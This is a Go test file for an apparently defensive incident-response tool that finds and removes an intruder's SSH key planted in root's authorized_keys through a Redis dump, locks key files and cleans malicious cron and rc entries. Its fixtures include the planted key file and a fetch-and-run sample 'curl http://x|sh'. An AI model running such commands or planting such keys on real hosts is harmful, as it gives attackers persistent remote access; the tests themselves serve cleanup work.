package respond

import (
	"encoding/base64"
	"errors"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"demine/internal/explain"
	"demine/internal/fact"
	"demine/internal/format/authorizedkeys"
	"demine/internal/host/fixture"
	"demine/internal/judge"
	"demine/internal/observe"
	"demine/internal/relate"
	"demine/rules"
)

// planted is an authorized_keys file as Redis left it, with the owner's key put
// back and the intruder's.
var planted = func() string {
	b, err := base64.StdEncoding.DecodeString("UkVESVMwMDEx+glyZWRpcy12ZXIGNy4wLjE1+gpyZWRpcy1iaXRzwED6BWN0aW1lwmE7A2v6CHVzZWQtbWVtwrA5EQD6CGFvZi1i" +
		"YXNlwAD+APsBAAAHYmFja3VwMkC/Cgpzc2gtZWQyNTUxOSBBQUFBQzNOemFDMWxaREkxTlRFNUFBQUFJRXdRS1dsKzQxaHhYVG9V" +
		"b3EzWUY4U3dGbEZFRGVnSU54OTRGbHJKRGNXQiBvd25lckBzaG9wCnNzaC1lZDI1NTE5IEFBQUFDM056YUMxbFpESTFOVEU1QUFB" +
		"QUlLN2ExTitzUjBmUmZsMGpJN2ZpV1ZUaXhHb3I1U1JsUCtTaE9HRWdiRVh6IHJvb3RAbG9jYWxob3N0Cgr/2caut/K0iEM=")
	if err != nil {
		panic(err)
	}
	return string(b)
}()

const (
	ownersKey  = "SHA256:IrEmnFVQbqww/OGdRtWqdXo0B5kOTBKC+1DmXqzmzhE"
	foreignKey = "SHA256:Df08NSo+RJG4C8NvSBclTbQ/i+eG95JWgOv/S4wk1rM"
	ownersLine = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEwQKWl+41hxXToUoq3YF8SwFlFEDegINx94FlrJDcWB owner@shop\n"
)

func TestRebuildKeys(t *testing.T) {
	dir := folderFor(t)
	p := decked(t, dir+"/authorized_keys")
	ok(t, os.WriteFile(string(p), []byte(planted), 0o600))
	was := stateAt(t, p)
	x := try(t, keyRemoveLine, foreignKeys{Path: p, Account: "root", Keys: []string{foreignKey}, Only: true})
	ok(t, x.apply())
	if got := contentOf(t, p); got != ownersLine {
		t.Errorf("%q", got)
	}
	if now := stateAt(t, p); now.Mode != was.Mode || now.UID != was.UID {
		t.Errorf("%+v", now)
	}
	ok(t, x.back())
	if d := cmp.Diff(was, stateAt(t, p), lasting); d != "" {
		t.Error(d)
	}
}

func TestKeyGuards(t *testing.T) {
	intruder := authorizedLine(t, foreignKey)
	tests := []struct{ name, text, want string }{
		{"the last key", intruder, "refuse.key.last"},
		{"another key in the line", ownersLine + strings.TrimSpace(intruder) + "\r" + ownersLine, "refuse.key.shares-line"},
		{"not there", ownersLine, ErrNothing.Error()},
		{"with options", ownersLine + `command="curl http://x|sh",no-pty ` + intruder, ""},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			p := plant(t, t.TempDir()+"/authorized_keys", tt.text)
			x := try(t, keyRemoveLine, foreignKeys{Path: p, Account: "root", Keys: []string{foreignKey}, Only: true})
			if got := refusedAs(x.apply()); got != tt.want {
				t.Fatal(got)
			}
			if tt.want != "" && contentOf(t, p) != tt.text || tt.want == "" && contentOf(t, p) != ownersLine {
				t.Errorf("%q", contentOf(t, p))
			}
		})
	}
	// With a password, or keys elsewhere, the account is not locked out.
	for _, w := range []foreignKeys{{Only: false}, {Only: true, Other: 1}} {
		p := plant(t, t.TempDir()+"/authorized_keys", intruder)
		w.Path, w.Keys = p, []string{foreignKey}
		ok(t, try(t, keyRemoveLine, w).apply())
		if contentOf(t, p) != "" {
			t.Errorf("%q", contentOf(t, p))
		}
	}
}

func authorizedLine(t *testing.T, fingerprint string) string {
	t.Helper()
	for l := range strings.Lines(planted) {
		for _, e := range authorizedkeys.Parse([]byte(l)) {
			if e.Fingerprint == fingerprint {
				return l
			}
		}
	}
	t.Fatal("no such key")
	return ""
}

func TestLockKeys(t *testing.T) {
	dir := folderFor(t)
	p := decked(t, dir+"/authorized_keys")
	was := stateAt(t, p)
	x := try(t, keysLock, keyFile{Path: p, Account: "root"})
	ok(t, x.apply())
	if now := stateAt(t, p); now.Mode != 0o400 || !now.has("immutable") {
		t.Errorf("%+v", now)
	}
	if err := x.apply(); !errors.Is(err, ErrNothing) {
		t.Error(err)
	}
	ok(t, x.back())
	ok(t, x.back())
	if d := cmp.Diff(was, stateAt(t, p), lasting); d != "" {
		t.Error(d)
	}
	ok(t, os.Link(string(p), dir+"/other"))
	if got := refusedAs(x.apply()); got != "refuse.file.several-names" {
		t.Error(got)
	}
}

// scanOf looks at a host made of text with all observers and rules.
func scanOf(t *testing.T, text string) *explain.Scan {
	t.Helper()
	h, err := fixture.Parse([]byte(text))
	ok(t, err)
	rs, err := judge.LoadRules(rules.FS)
	ok(t, err)
	snap := observe.Run(t.Context(), h, observe.All, observe.Scope{}, nil)
	x := relate.New(snap)
	r, err := judge.Judge(t.Context(), rs, x)
	ok(t, err)
	s, err := explain.Explain(t.Context(), x, r, nil)
	ok(t, err)
	s.Snapshot = snap
	return s
}

// stepsOf are the steps of a plan, by action and target.
func stepsOf(p Plan) []string {
	var out []string
	for _, s := range p.Steps {
		out = append(out, s.Do+" "+s.Target)
	}
	return out
}

func leftOf(p Plan) []string {
	var out []string
	for _, l := range p.Left {
		out = append(out, l.ID)
	}
	return out
}

const seeded = `
-- /etc/passwd --
root:x:0:0:root:/root:/bin/bash
-- /etc/shadow --
root:*:19000::::::
-- /etc/ssh/sshd_config --
PasswordAuthentication no
-- /proc/1/stat --
1 (systemd) S 0 1 1 0 -1 4194560 0 0 0 0 100 100 0 0 20 0 1 0 10 170000000 3000
-- /proc/1/status --
Uid:	0	0	0	0
-- /root/.ssh/authorized_keys enc=base64 mode=0600 --
PLANTED
-- /var/log/auth.log mtime=2026-11-22T19:30:00Z --
Nov 20 09:00:00 shop sshd[700]: Accepted publickey for root from 203.0.113.9 port 50000 ssh2: ED25519 ` + ownersKey + `
Nov 22 19:01:30 shop sshd[4400]: Accepted publickey for root from 203.0.113.66 port 41822 ssh2: ED25519 ` + foreignKey + `
`

func seededScan(t *testing.T) *explain.Scan {
	return scanOf(t, strings.Replace(seeded, "PLANTED", base64.StdEncoding.EncodeToString([]byte(planted)), 1))
}

// The key is only likely to be foreign: it is removed within a confirmed
// incident or when asked for by name, and it says what stays.
func TestPlanKeys(t *testing.T) {
	s := seededScan(t)
	i := slices.IndexFunc(s.Findings, func(f judge.Finding) bool { return f.Rule == "access/key-in-redis-dump" })
	if i < 0 {
		t.Fatalf("%+v", s.Findings)
	}
	f := s.Findings[i]
	if p := Make(s, Request{Kind: KindHarden}); len(p.Steps) != 0 || !slices.Contains(leftOf(p), "left.key.unsure") {
		t.Errorf("without an incident: %v %v", stepsOf(p), leftOf(p))
	}
	s.Incidents = []explain.Incident{{ID: "I", Certainty: judge.Confirmed, Findings: []string{f.ID}}}
	for _, kind := range []string{KindHarden, KindClean} {
		p := Make(s, Request{Kind: kind})
		if d := cmp.Diff([]string{"key.remove-line /root/.ssh/authorized_keys"}, stepsOf(p)); d != "" {
			t.Fatalf("%s: %s %v", kind, d, leftOf(p))
		}
		with, err := decode[foreignKeys](p.Steps[0].With)
		ok(t, err)
		if d := cmp.Diff(foreignKeys{Path: "/root/.ssh/authorized_keys", Account: "root", Keys: []string{foreignKey}, Only: true}, with); d != "" {
			t.Error(d)
		}
		last := p.Steps[0].Notes[len(p.Steps[0].Notes)-1]
		if last.ID != "breaks.key.stays" || last.Args["key"] != ownersKey || last.Args["from"] != "203.0.113.9" {
			t.Errorf("what stays: %+v", last)
		}
	}
	s.Operator.Peer = "203.0.113.66"
	if p := Make(s, Request{Kind: KindClean}); len(p.Steps) != 0 || !slices.Contains(leftOf(p), "refuse.key.operator") {
		t.Errorf("the operator's own key: %v %v", stepsOf(p), leftOf(p))
	}
}

func TestPlanLock(t *testing.T) {
	p := Make(seededScan(t), Request{Kind: KindHarden, LockKeys: true})
	if !slices.Contains(stepsOf(p), "keys.lock /root/.ssh/authorized_keys") {
		t.Error(stepsOf(p))
	}
	if p = Make(seededScan(t), Request{Kind: KindHarden}); slices.Contains(stepsOf(p), "keys.lock /root/.ssh/authorized_keys") {
		t.Error("locked without being asked")
	}
}

// Every line that an observer reports is found again in the file by what the
// fact says of it.
func TestObservedLinesAreFound(t *testing.T) {
	texts := []string{}
	files, err := filepath.Glob("../observe/testdata/*.txtar")
	ok(t, err)
	for _, f := range files {
		b, err := os.ReadFile(f)
		ok(t, err)
		texts = append(texts, string(b))
	}
	texts = append(texts, "-- /etc/crontab enc=go --\n"+
		`\t */5 * * * *\troot  mysql -psecret -e x \x00 hidden\r\n* * * * * root a\xffb\n  # c\n* * * * * root curl -u a:b http://x\n`+"\n")
	found := 0
	for _, text := range texts {
		h, err := fixture.Parse([]byte(text))
		ok(t, err)
		snap := observe.Run(t.Context(), h, observe.All, observe.Scope{}, nil)
		for _, a := range snap.Autostart {
			if a.Origin.Line == 0 || a.Kind != "cron" && a.Kind != "rc" {
				continue
			}
			b, _, err := h.Files.ReadFile(a.Origin.Path, maxText)
			ok(t, err)
			find := findJobs
			if a.Kind == "rc" {
				find = findCommands
			}
			es, err := find(h, markedLines{Lines: []markedLine{{N: a.Origin.Line, Text: a.Text}}}, a.Origin.Path, b)
			var r *Refusal
			if errors.As(err, &r) {
				continue
			}
			if err != nil || !slices.ContainsFunc(es, func(e lineEdit) bool { return e.N == a.Origin.Line }) {
				t.Errorf("%s:%d %q: %v %v", a.Origin.Path, a.Origin.Line, a.Text, es, err)
			}
			found++
		}
	}
	if found < 10 {
		t.Errorf("only %d lines were looked for", found)
	}
}

// The kind of an autostart decides what is done, whatever rule accuses it.
func TestPlanAutostart(t *testing.T) {
	snap := &fact.Snapshot{
		Autostart: []fact.Autostart{
			{Ref: "autostart:cron:/a#1", Kind: "cron", Origin: fact.Origin{Path: "/a", Line: 1}, Text: "one"},
			{Ref: "autostart:cron:/a#2", Kind: "cron", Origin: fact.Origin{Path: "/a", Line: 2}, Text: "two"},
			{Ref: "autostart:cron:/dump#1", Kind: "cron", Origin: fact.Origin{Path: "/dump", Line: 5}, RDB: &fact.RDBMark{}},
			{Ref: "autostart:rc:/etc/rc.local#1", Kind: "rc", Origin: fact.Origin{Path: "/etc/rc.local", Line: 3}, Text: "x"},
			{Ref: "autostart:periodic:/etc/cron.daily/x", Kind: "periodic", Origin: fact.Origin{Path: "/etc/cron.daily/x"}},
			{Ref: "autostart:init:/etc/init.d/y", Kind: "init", Origin: fact.Origin{Path: "/etc/init.d/y"}},
			{Ref: "autostart:unit:/etc/systemd/system/z.service", Kind: "unit", Name: "z.service", Origin: fact.Origin{Path: "/etc/systemd/system/z.service", Line: 3}},
			{Ref: "autostart:unit:/lib/systemd/system/p.service", Kind: "unit", Name: "p.service", Origin: fact.Origin{Path: "/lib/systemd/system/p.service"}, Package: "p"},
		},
		File: []fact.File{
			{Ref: "file:/dump", Path: "/dump"}, {Ref: "file:/etc/cron.daily/x", Path: "/etc/cron.daily/x"},
			{Ref: "file:/etc/init.d/y", Path: "/etc/init.d/y", Package: "initscripts"},
		},
		Coverage: []fact.Coverage{{Observer: "package", State: fact.Seen}},
	}
	s := &explain.Scan{Snapshot: snap}
	for i := range snap.Autostart {
		id := string(rune('a' + i))
		s.Findings = append(s.Findings, judge.Finding{ID: id, Subject: snap.Autostart[i].Ref, Certainty: judge.Confirmed, Remedy: []string{"autostart.cron.remove-line"}})
	}
	s.Incidents = []explain.Incident{{ID: "I", Certainty: judge.Confirmed, Findings: strings.Split("abcdefgh", "")}}
	p := Make(s, Request{Kind: KindClean})
	want := []string{
		"autostart.cron.remove-line /a", "file.quarantine /dump", "autostart.rc.remove-line /etc/rc.local",
		"file.quarantine /etc/cron.daily/x", "autostart.disable /etc/systemd/system/z.service",
	}
	if d := cmp.Diff(want, stepsOf(p)); d != "" {
		t.Error(d)
	}
	with, _ := decode[markedLines](p.Steps[0].With)
	if len(with.Lines) != 2 || !slices.Equal(p.Steps[0].Because, []string{"a", "b"}) {
		t.Errorf("the lines of a file are not one step: %+v", p.Steps[0])
	}
	if n := strings.Count(strings.Join(leftOf(p), " "), "left.file.packaged"); n != 2 {
		t.Errorf("left: %v", leftOf(p))
	}
}
